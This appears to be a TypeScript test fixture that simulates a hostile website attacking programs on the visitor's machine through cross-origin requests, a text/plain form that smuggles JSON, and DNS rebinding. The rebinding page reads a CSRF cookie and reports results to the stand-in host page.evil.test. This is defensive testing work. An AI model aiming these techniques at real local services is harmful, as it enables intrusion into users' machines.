import { createServer, type IncomingMessage, request, type Server, type ServerResponse } from 'node:http';
import { once } from 'node:events';
import { listenOnFreePort } from '../servers/free-port.ts';

/*
 * A web site that attacks programs on its visitor's machine. `foreign` is a page of another origin: requests that a browser
 * sends without a preflight, and forms. `rebound` is DNS rebinding: the page comes from the attacker's server, at the
 * attacked port and under the attacker's name, which then resolves to this machine. Here the attacker's server, at a separate
 * address, forwards the requests with their Host: the same requests arrive.
 */

/** One request of the attack. */
export interface Shot {
  method: string;
  path: string;
  body?: string;
}

export interface HostilePage {
  /** the page that the browser loads */
  url: string;
  /** the addresses that the names of the site have */
  hosts: Record<string, string>;
  /** reports of the pages: finished ports, and responses that they could read */
  reports: { from: string; said: string }[];
  close(): Promise<void>;
}

const FOREIGN = 'page.evil.test';
const REBOUND = 'rebound.test';
/** Loopback like 127.0.0.1, where the ports are still free. */
const SITE_IP = '127.0.0.2';

/** Serves the pages; they attack each of `ports` of 127.0.0.1 with each of the shots. */
export async function startHostilePage(ports: readonly number[], shots: readonly Shot[]): Promise<HostilePage> {
  const reports: HostilePage['reports'] = [];
  const servers: Server[] = [];
  const site = createServer((incoming, response) => {
    if (incoming.method === 'POST') void collect(incoming, reports).then(() => response.end());
    else response.setHeader('content-type', 'text/html').end(foreignPage(ports, shots, rebound));
  });
  servers.push(site);
  const sitePort = await listenOnFreePort(site, SITE_IP);
  const rebound: string[] = [];
  for (const port of ports) {
    const server = createServer((incoming, response) => {
      if (incoming.url === '/attack') response.setHeader('content-type', 'text/html').end(reboundPage(shots, sitePort));
      else passOn(incoming, response, port);
    });
    await once(server.listen(port, SITE_IP), 'listening');
    servers.push(server);
    rebound.push(`http://${REBOUND}:${port}/attack`);
  }
  return {
    url: `http://${FOREIGN}:${sitePort}/`,
    hosts: { [FOREIGN]: SITE_IP, [REBOUND]: SITE_IP },
    reports,
    close: async () => {
      for (const server of servers) server.closeAllConnections();
      await Promise.all(servers.map((server) => new Promise((resolve) => server.close(resolve))));
    },
  };
}

async function collect(incoming: IncomingMessage, reports: HostilePage['reports']): Promise<void> {
  const chunks: Buffer[] = [];
  for await (const chunk of incoming) chunks.push(chunk as Buffer);
  reports.push({ from: incoming.url ?? '', said: Buffer.concat(chunks).toString() });
}

function passOn(incoming: IncomingMessage, response: ServerResponse, port: number): void {
  const { method, url, headers } = incoming;
  const outgoing = request({ host: '127.0.0.1', port, method, path: url, headers, timeout: 3000 }, (answer) => {
    response.writeHead(answer.statusCode ?? 502, answer.headers);
    answer.pipe(response);
  });
  outgoing.on('timeout', () => outgoing.destroy());
  outgoing.on('error', () => response.destroy());
  incoming.pipe(outgoing);
}

/** In the pages: aborts an unanswered request, as to a server that does not speak HTTP. */
const SHOOT = `
const shoot = (url, init) => fetch(url, { ...init, signal: AbortSignal.timeout(3000) });
const cookie = () => (document.cookie.match(/_csrf=([^;]*)/) || [])[1] || '';
`;

/** Cross-origin requests, as text and as JSON, and a form in a frame for each; then the other pages, in frames. */
function foreignPage(ports: readonly number[], shots: readonly Shot[], frames: readonly string[]): string {
  return `<!doctype html><body><script>${SHOOT}
const shots = ${JSON.stringify(shots)};
const form = (action, body) => {
  const frame = document.createElement('iframe');
  frame.name = 'f' + Math.random();
  document.body.append(frame);
  const one = document.createElement('form');
  one.method = 'post'; one.action = action; one.enctype = 'text/plain'; one.target = frame.name;
  const field = document.createElement('input');
  // "name=value": the equals sign goes into a string of the JSON
  field.name = body.slice(0, -1) + ',"x":"'; field.value = '"}';
  one.append(field); document.body.append(one); one.submit();
};
(async () => {
  await Promise.all(${JSON.stringify(ports)}.map(async (port) => {
    let read = 0;
    for (const { method, path, body } of shots) for (const host of ['127.0.0.1', 'localhost']) {
      const url = 'http://' + host + ':' + port + path;
      await shoot(url, { method, body, mode: 'no-cors', credentials: 'include' }).catch(() => {});
      await shoot(url, { method, body, headers: body ? { 'content-type': 'application/json' } : {} }).then(() => read++, () => {});
      if (body) form(url, body);
    }
    await fetch('/foreign/' + port, { method: 'POST', body: 'read ' + read });
  }));
  for (const url of ${JSON.stringify(frames)}) {
    const frame = document.createElement('iframe');
    frame.src = url; document.body.append(frame);
  }
})();
</script></body>`;
}

/** A page in the attacked origin: it may read responses and cookies. */
function reboundPage(shots: readonly Shot[], sitePort: number): string {
  return `<!doctype html><body><script>${SHOOT}
(async () => {
  const statuses = [];
  await shoot('/').catch(() => {});
  for (const { method, path, body } of ${JSON.stringify(shots)}) {
    const headers = { 'X-CSRF-Token': cookie(), ...(body ? { 'content-type': 'application/json' } : {}) };
    await shoot(path, { method, body, headers }).then((r) => statuses.push(r.status), () => statuses.push(0));
  }
  await fetch('http://${FOREIGN}:${sitePort}/rebound/' + location.port, { method: 'POST', mode: 'no-cors', body: statuses.join() });
})();
</script></body>`;
}
